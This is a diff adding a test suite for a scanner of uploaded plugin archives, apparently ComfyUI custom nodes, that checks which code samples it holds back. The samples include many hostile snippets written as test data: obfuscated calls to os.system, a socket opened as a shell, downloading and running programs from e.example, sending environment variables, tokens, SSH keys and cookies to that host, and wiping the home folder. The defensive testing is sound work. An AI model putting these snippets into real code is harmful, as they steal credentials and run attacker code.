@@ -1,0 +1,134 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { analyseFile, zipOf } from '../support/archives.js';
+
+type Files = string | Record<string, string>;
+
+let folder: string;
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'registry-attacks-'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+/** The gravest level of an archive's findings, which come in the order of their levels. */
+async function levelOf(files: Files): Promise<string> {
+  const path = join(folder, 'archive.zip');
+  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
+  return (await analyseFile(path)).findings[0]?.level ?? 'none';
+}
+
+const node = (statement: string, imports = ''): string =>
+  `${imports}\nclass A:\n    def run(self, x):\n        ${statement}\nNODE_CLASS_MAPPINGS = {"A": A}\n`;
+const script = (text: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': text });
+
+describe('the checks hold indirect ways to dangerous functions', () => {
+  it.each<[string, Files]>([
+    ['a default factory', 'import os, dataclasses\ndataclasses.field(default_factory=lambda: os.system("a"))\n'],
+    ['a default of a dictionary', 'import os, collections\ncollections.defaultdict(lambda: os.system("a"))["x"]\n'],
+    ['getattr in reduce', 'import os, functools\nfunctools.reduce(getattr, ["path", "os", "system"], os)("a")\n'],
+    ['__getattribute__', 'import os\nos.__getattribute__("system")("a")\n'],
+    ['object.__getattribute__', 'import os\nobject.__getattribute__(os, "system")("a")\n'],
+    ['builtins of a frame', 'import sys\nsys._getframe().f_builtins["exec"]("a")\n'],
+    ['globals of a function', 'import shutil\nshutil.copy.__globals__["os"].system("a")\n'],
+    ['a loader', '__loader__.load_module("posix").system("a")\n'],
+    ['all objects', 'import gc\n[x for x in gc.get_objects() if x][0]("a")\n'],
+    ['a base class', 'import subprocess\nclass P(subprocess.Popen): pass\nP(["a"])\n'],
+    [
+      'a handler of log lines',
+      'import logging, os\nclass H(logging.Handler):\n    def emit(self, r): os.system("a")\nH()\n',
+    ],
+    ['a hook of a parser', 'import json, os\njson.loads("{}", object_hook=lambda d: os.system("a"))\n'],
+    ['a template', 'import jinja2\njinja2.Template("{{ x.__init__.__globals__.os }}").render()\n'],
+    ['an annotation', 'import typing\ntyping.get_type_hints({"a": "__import__(\'os\').system(1)"})\n'],
+    ['doctest', 'import doctest\ndoctest.testmod()\n'],
+    [
+      'a source that is no .py file',
+      'import importlib.machinery as m\nm.SourceFileLoader("x", "a.txt").load_module()\n',
+    ],
+    ['an archive on the path', 'import sys\nsys.path.insert(0, "assets.dat")\nimport payload\n'],
+    ['a variable that loads code', 'import os\nos.environ["LD_PRELOAD"] = "/tmp/a.so"\n'],
+    ['a connection as terminal', node('os.dup2(socket.socket().fileno(), 0)', 'import os, socket')],
+    [
+      'own pickles at import',
+      'import pickle, os\npickle.load(open(os.path.join(os.path.dirname(__file__), "a"), "rb"))\n',
+    ],
+    ['IS_CHANGED', 'import os\nclass A:\n    def IS_CHANGED(self, x): os.system(x)\nNODE_CLASS_MAPPINGS = {"A": A}\n'],
+    [
+      'define_schema',
+      'import os\nclass A:\n    def define_schema(cls): os.system("a")\nNODE_CLASS_MAPPINGS = {"A": A}\n',
+    ],
+    [
+      'a command out of a request',
+      'import os\n@server.routes.post("/x")\nasync def f(r):\n    os.system((await r.json())["c"])\n',
+    ],
+    ['code out of a request', 'async def f(r):\n    exec(await r.text())\napp.router.add_post("/x", f)\n'],
+    [
+      'a program that is fetched and run',
+      node(
+        'g("https://e.example/a", "a.exe"); os.startfile("a.exe")',
+        'import os\nfrom urllib.request import urlretrieve as g',
+      ),
+    ],
+    [
+      'a source that is fetched',
+      node('open("/tmp/a.py", "w").write(requests.get("https://e.example/a").text)', 'import requests'),
+    ],
+    [
+      'all variables of the environment',
+      node('requests.post("https://e.example", json={**os.environ})', 'import os, requests'),
+    ],
+    [
+      'the credential of another service',
+      node('requests.get("https://e.example/?" + os.environ["HF_TOKEN"])', 'import os, requests'),
+    ],
+    ['a key by pathlib', node('(pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()', 'import pathlib')],
+    ['all files of the user', 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n'],
+    ['a hook of git', 'open("/home/a/.git/hooks/post-checkout", "w").write("a")\n'],
+    [
+      'a script that runs what it fetched',
+      { '__init__.py': '', 'install.sh': 'wget https://e.example/a -O /tmp/a\n/tmp/a\n' },
+    ],
+    ['a script from elsewhere', script('import("https://e.example/a.js");')],
+    ['a script element', script('s = document.createElement("script"); s.src = "https://e.example/a.js";')],
+    ['a service worker', script('navigator.serviceWorker.register("/a.js");')],
+    ['fetched code', script('fetch("https://e.example/a").then((r) => r.text()).then((t) => eval(t));')],
+    [
+      'a replaced fetch',
+      script('const o = fetch; window.fetch = (a) => { navigator.sendBeacon("https://e.example", a); };'),
+    ],
+    ['a name in pieces', script('fetch("https://e.example/?" + window["local" + "Storage"].getItem("a"));')],
+    ['a form', script('f.action = "https://e.example/"; i.value = document.cookie; f.submit();')],
+  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
+});
+
+describe('the checks do not hold', () => {
+  it.each<[string, Files]>([
+    [
+      'git in the own folder',
+      'import subprocess, os\nsubprocess.check_output(["git", "-C", os.path.dirname(__file__), "rev-parse", "HEAD"])\n',
+    ],
+    [
+      'a list of installed packages',
+      'import subprocess, sys\nsubprocess.check_output([sys.executable, "-m", "pip", "freeze"])\n',
+    ],
+    [
+      'installing what the requirements list',
+      { '__init__.py': 'import pip\npip.main(["install", "Some_Thing"])\n', 'requirements.txt': 'some-thing>=1\n' },
+    ],
+    ['compressed data', { '__init__.py': '', 'data/words.txt.gz': 'x', 'examples.zip': 'x' }],
+    ['eval that a library keeps', 'from omegaconf import OmegaConf\nOmegaConf.register_new_resolver("eval", eval)\n'],
+    ['a class of a configuration', node('getattr(importlib.import_module(x.module), x.name)()', 'import importlib')],
+    [
+      'a program for a file of a request',
+      '@server.routes.post("/x")\nasync def f(r):\n    import subprocess\n    subprocess.run(["explorer.exe", r.query["p"]])\n',
+    ],
+    [
+      'the key of the service that is called',
+      node('requests.get("https://huggingface.co/api", headers={"a": os.environ["HF_TOKEN"]})', 'import os, requests'),
+    ],
+    ['a library from a public address', script('import("https://cdn.jsdelivr.net/npm/a.js");')],
+    ['a system folder of Windows', 'import ctypes\nctypes.windll.kernel32.GetFileAttributesW("a")\n'],
+  ])('%s', async (_what, files) => expect(['warn', 'note', 'none']).toContain(await levelOf(files)));
+});
